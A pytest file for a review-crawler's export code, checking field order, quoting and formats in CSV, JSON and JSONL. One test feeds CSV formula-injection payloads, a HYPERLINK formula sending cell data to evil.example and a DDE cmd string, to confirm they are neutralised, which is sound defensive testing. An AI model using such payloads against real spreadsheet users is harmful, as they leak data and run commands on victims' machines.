"""Exports carry the contract's fields (then how each mention was handled), in CSV, JSON and JSON
Lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from crawler.export import FIELDS, ExportError, write_export
from crawler.items import Mention
from crawler.store import change_status, iter_mentions, open_engine, upsert_mentions

CONTRACT = [
    "id", "brand", "source", "kind", "url", "title", "author", "published", "first_seen",
    "lang", "rating", "score", "label", "analyzer", "status", "text",
]  # fmt: skip
EXPORTED = [*CONTRACT, "note", "handled_by", "handled_at"]  # the contract first


@pytest.fixture
def engine(database_url):
    engine = open_engine(database_url)
    upsert_mentions(
        engine,
        [
            Mention(
                brand="Panificio Rossi",
                kind="review",
                url="https://r.example/#review-1",
                text='Resto sbagliato, "mai più".\nSeconda riga, con virgola',
                source="r.example",
                author="Giulia",
                rating=0.0,
                lang="it",
                score=-0.6,
                label="negative",
                analyzer="it-lexicon",
                published=datetime(2024, 3, 2, 17, 30, tzinfo=UTC),
            ),
            Mention(
                brand="Caffè Aurora",
                kind="comment",
                url="https://b.example/p#comment-2",
                text="Great coffee",
                source="b.example",
            ),
        ],
    )
    return engine


def test_fields_are_the_contract_then_how_the_mention_was_handled():
    assert list(FIELDS) == EXPORTED


def test_the_note_who_and_when_of_handling_are_exported(engine):
    mention = next(iter_mentions(engine))["id"]
    change_status(engine, mention, "handled", "richiamata, buono sconto", "Anna")
    stream = io.StringIO()
    write_export(iter_mentions(engine), stream, "jsonl")
    (record,) = [json.loads(line) for line in stream.getvalue().splitlines() if mention in line]
    assert (record["status"], record["note"], record["handled_by"]) == (
        "handled",
        "richiamata, buono sconto",
        "Anna",
    )
    assert datetime.fromisoformat(record["handled_at"]).utcoffset() is not None


def test_csv_round_trips_text_with_quotes_commas_and_newlines(engine):
    stream = io.StringIO()
    assert write_export(iter_mentions(engine), stream, "csv") == 2
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert list(rows[0]) == EXPORTED
    assert rows[0]["text"] == 'Resto sbagliato, "mai più".\nSeconda riga, con virgola'
    assert rows[0]["published"] == "2024-03-02T17:30:00+00:00"
    assert rows[1]["rating"] == "" and rows[1]["label"] == "unknown"


def test_json_and_jsonl_hold_the_same_records(engine):
    as_json, as_lines = io.StringIO(), io.StringIO()
    write_export(iter_mentions(engine), as_json, "json")
    write_export(iter_mentions(engine, label="negative"), as_lines, "jsonl")
    records = json.loads(as_json.getvalue())
    assert [list(r) for r in records] == [EXPORTED, EXPORTED]
    [line] = as_lines.getvalue().splitlines()
    assert json.loads(line) == records[0]
    assert records[0]["rating"] == 0.0 and records[0]["first_seen"].endswith("+00:00")


def test_an_unknown_format_is_a_clear_error(engine):
    with pytest.raises(ExportError, match="csv, json, jsonl"):
        write_export(iter_mentions(engine), io.StringIO(), "xml")


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Clicca")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_start_like_a_formula_are_text_for_a_spreadsheet(tmp_path, dangerous):
    engine = open_engine(f"sqlite:///{tmp_path / 'formula.db'}")
    upsert_mentions(
        engine,
        [
            Mention(
                brand="Panificio Rossi",
                kind="comment",
                url="https://b.example/p#comment-9",
                text=dangerous,
                title=dangerous,
                author=dangerous,
                source="b.example",
                score=-0.75,
            )
        ],
    )
    stream = io.StringIO()
    write_export(iter_mentions(engine), stream, "csv")
    [row] = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
    assert row["text"] == row["title"] == row["author"] == "'" + dangerous
    assert row["score"] == "-0.75"  # a number, not text: a spreadsheet reads it as a value
    jsonl = io.StringIO()
    write_export(iter_mentions(engine), jsonl, "jsonl")
    assert json.loads(jsonl.getvalue())["text"] == dangerous  # JSON is data, not a sheet
